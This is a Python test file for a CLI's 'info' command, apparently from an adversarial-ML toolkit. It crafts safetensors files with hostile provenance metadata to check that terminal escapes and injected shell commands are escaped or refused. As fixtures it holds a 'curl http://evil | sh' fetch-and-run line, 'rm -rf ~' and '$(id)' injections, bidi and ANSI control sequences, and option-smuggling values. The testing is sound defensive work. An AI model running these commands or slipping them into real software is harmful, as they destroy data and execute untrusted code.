"""`satkit info` on crafted files: nothing from the file reaches the terminal raw, and the
rerun line is rebuilt from validated fields, never copied."""

from __future__ import annotations

import json
import re
import shlex
import shutil

import pytest

from satkit.cli.info import rerun_command
from satkit.provenance import printable
from tests.cli_helpers import run

# What a terminal acts on: C0 (ESC, BEL, CR, ...), DEL, C1, bidi embeddings/overrides/isolates.
RAW = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
HOSTILE_NAME = "resnet\x1b[2J\x1b]0;pwned\x07\u202eevil\u2066x\n  rerun: curl http://evil | sh"
INJECTED = "satkit attack x; rm -rf ~"


@pytest.fixture(scope="module")
def genuine(tmp_path_factory):
    p = tmp_path_factory.mktemp("info_safe") / "genuine.safetensors"
    run("attack", "digits/resnet-s1", "--n", 20, "--steps", 1, "-o", p)
    return p


def _provenance(path):
    from safetensors import safe_open

    with safe_open(str(path), framework="pt") as f:
        return json.loads(f.metadata()["provenance"])


def _craft(src, dst, edit):
    """Copy of ``src`` with its provenance edited; tensors and numbers stay as written."""
    from safetensors import safe_open
    from safetensors.torch import load_file, save_file

    from satkit.attacks.runner import attack_key

    tensors = load_file(str(src))
    with safe_open(str(src), framework="pt") as f:
        meta = dict(f.metadata())
    prov = json.loads(meta["provenance"])
    edit(prov)
    prov["attack_key"] = attack_key(prov)  # stay self-consistent: only the strings are hostile
    meta["provenance"] = json.dumps(prov, sort_keys=True, separators=(",", ":"))
    save_file(tensors, str(dst), metadata=meta)
    return dst


def _rerun_line(stdout):
    lines = [s for s in stdout.splitlines() if s.strip().startswith("rerun:")]
    assert len(lines) == 1, stdout
    return lines[0].split("rerun:", 1)[1].strip()


def _expected_argv(prov):
    a, s = prov["attack"], prov["data"]["sampling"]
    return [
        "satkit", "attack", prov["model"]["spec"], "--data", prov["data"]["source"],
        "--n", str(s["n"]), "--data-seed", str(s["seed"]), "--canvas", str(prov["data"]["canvas"][-1]),
        "--eps", repr(a["eps"]), "--steps", str(a["steps"]), "--step-size", repr(a["step_size"]),
        "--random-start", "--seed", str(a["seed"]), "--storage", prov["storage_dtype"],
        "--batch-size", str(prov["batch_size"]), "-o", "OUT.safetensors",
    ]


def test_printable_escapes_terminal_controls():
    assert printable("a\x1b[2Jb") == "a\\x1b[2Jb"
    assert printable("\x1b]0;t\x07") == "\\x1b]0;t\\x07"
    assert printable("x\u202ey\u2066z\u2069") == "x\\u202ey\\u2066z\\u2069"
    assert printable("\x7f\x85\x9f\n\r\t") == "\\x7f\\x85\\x9f\\x0a\\x0d\\x09"
    assert printable("\ud800") == "\\ud800"  # lone surrogate: would not even encode
    assert printable("résumé 日本 /data/val ~") == "résumé 日本 /data/val ~"


def test_hostile_name_and_injected_rerun(genuine, tmp_path):
    def edit(p):
        p["model"]["name"] = HOSTILE_NAME
        p["rerun"] = INJECTED
        p["versions"]["satkit"] = "0.1\x1b[8m hidden"

    f = _craft(genuine, tmp_path / "evil.safetensors", edit)
    r = run("info", f)
    assert not RAW.search(r.stdout), repr(r.stdout)
    assert "rm -rf" not in r.stdout and "curl" not in r.stdout.split("rerun:")[-1]
    assert "\\x1b[2J" in r.stdout and "\\u202e" in r.stdout  # shown, escaped
    argv = shlex.split(_rerun_line(r.stdout))
    assert argv == _expected_argv(_provenance(f))
    # The rebuilt line is a working command: it reruns the attack.
    argv[argv.index("-o") + 1] = str(tmp_path / "again.safetensors")
    run(*argv[1:])
    assert (tmp_path / "again.safetensors").is_file()


def test_json_output_is_ascii_escaped(genuine, tmp_path):
    def edit(p):
        p["model"]["name"] = HOSTILE_NAME
        p["rerun"] = INJECTED

    f = _craft(genuine, tmp_path / "evil.safetensors", edit)
    out = run("info", f, "--json").stdout
    assert out.isascii() and not RAW.search(out)
    assert json.loads(out)["provenance"]["model"]["name"] == HOSTILE_NAME


def test_data_source_with_shell_syntax_is_quoted(genuine, tmp_path):
    src = "digits; rm -rf ~ $(id) `id`"

    def edit(p):
        p["data"]["source"] = src
        p["rerun"] = INJECTED

    f = _craft(genuine, tmp_path / "evil.safetensors", edit)
    argv = shlex.split(_rerun_line(run("info", f).stdout))
    assert argv[argv.index("--data") + 1] == src
    assert argv == _expected_argv(_provenance(f))


@pytest.mark.parametrize(
    "field, edit",
    [
        ("model.spec", lambda p: p["model"].__setitem__("spec", "digits/resnet-s1\x1b[2J")),
        ("model.spec", lambda p: p["model"].__setitem__("spec", "--allow-pickle")),
        ("data.source", lambda p: p["data"].__setitem__("source", "digits\u202e")),
        ("data.source", lambda p: p["data"].__setitem__("source", "digits\nrm -rf ~")),
    ],
)
def test_malformed_string_field_is_not_rebuilt(genuine, tmp_path, field, edit):
    def edit_all(p):
        edit(p)
        p["rerun"] = INJECTED

    r = run("info", _craft(genuine, tmp_path / "evil.safetensors", edit_all))
    assert not RAW.search(r.stdout), repr(r.stdout)
    assert INJECTED not in r.stdout
    assert _rerun_line(r.stdout) == f"(cannot be rebuilt: field {field} is malformed)"


@pytest.mark.parametrize(
    "path, value, field",
    [
        (("attack", "eps"), "0.1; rm -rf ~", "attack.eps"),
        (("attack", "eps"), float("nan"), "attack.eps"),
        (("attack", "eps"), 2.0, "attack.eps"),
        (("attack", "steps"), 1.5, "attack.steps"),
        (("attack", "steps"), True, "attack.steps"),
        (("attack", "step_size"), 0.0, "attack.step_size"),
        (("attack", "random_start"), "yes", "attack.random_start"),
        (("attack", "seed"), "0 --allow-pickle", "attack.seed"),
        (("attack", "attack"), "fgsm", "attack.attack"),
        (("storage_dtype",), "uint8 --allow-pickle", "storage_dtype"),
        (("batch_size",), -1, "batch_size"),
        (("amp",), "bf16; id", "amp"),
        (("data", "canvas"), [1, 16, "16"], "data.canvas"),
        (("data", "sampling", "n"), "20", "data.sampling.n"),
        (("model", "arch"), ["resnet18"], "model.arch"),
    ],
)
def test_malformed_value_field_is_not_rebuilt(genuine, path, value, field):
    p = _provenance(genuine)
    d = p
    for k in path[:-1]:
        d = d[k]
    d[path[-1]] = value
    assert rerun_command(p) == f"(cannot be rebuilt: field {field} is malformed)"


def test_recorded_rerun_is_never_used(genuine, tmp_path):
    """Even a genuine file's recorded line is replaced by the rebuilt one."""
    f = tmp_path / "copy.safetensors"
    shutil.copy(genuine, f)
    assert shlex.split(_rerun_line(run("info", f).stdout)) == _expected_argv(_provenance(f))


def test_rerun_line_carries_labels_and_model_kwargs_and_refuses_odd_ones():
    """Files made with --labels / --model-kwargs rerun with them; values that could smuggle options are refused."""
    import shlex

    from satkit.cli.info import rerun_command

    p = {"command": "logits", "amp": "off",
         "model": {"name": "w", "spec": "w.safetensors", "kind": "safetensors", "arch": "resnet18",
                   "model_kwargs": {"in_chans": 1, "num_classes": 10, "global_pool": "avg", "drop_rate": 0.1}},
         "data": {"source": "val", "labels": "LOC_val_solution.csv", "canvas": [1, 32, 32], "sampling": {}}}
    argv = shlex.split(rerun_command(p, keys=["logits", "clean"]))
    assert argv[argv.index("--labels") + 1] == "LOC_val_solution.csv"
    assert argv[argv.index("--model-kwargs") + 1] == "in_chans=1,num_classes=10,global_pool=avg,drop_rate=0.1"
    for bad in ({"in_chans": "1,checkpoint_path=/x"}, {"a b": 1}, {"x": [1]}, {}):
        q = dict(p, model=dict(p["model"], model_kwargs=bad))
        assert rerun_command(q) == "(cannot be rebuilt: field model.model_kwargs is malformed)"
